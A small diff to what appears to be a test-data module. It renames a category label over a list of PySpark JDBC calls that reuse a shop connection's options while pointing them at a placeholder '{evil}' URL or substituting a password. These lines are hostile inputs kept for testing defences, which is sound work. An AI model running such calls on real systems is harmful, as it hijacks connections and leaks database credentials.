@@ -5,7 +5,7 @@ from __future__ import annotations
 from collections.abc import Mapping, Sequence
 
 CONNECT: Mapping[str, Sequence[str]] = {
-    "take a connection apart, or use somebody else's": [
+    "take a connection apart, or use another user's": [
         "spark.read.format('jdbc').options(**shop, dbtable='a', url='{evil}').load().schema",
         "spark.read.options(**shop).jdbc('{evil}', 'sysibm.sysdummy1').schema",
         "spark.read.format('jdbc').options(**shop, dbtable='a', PASSWORD='mine').load().schema",
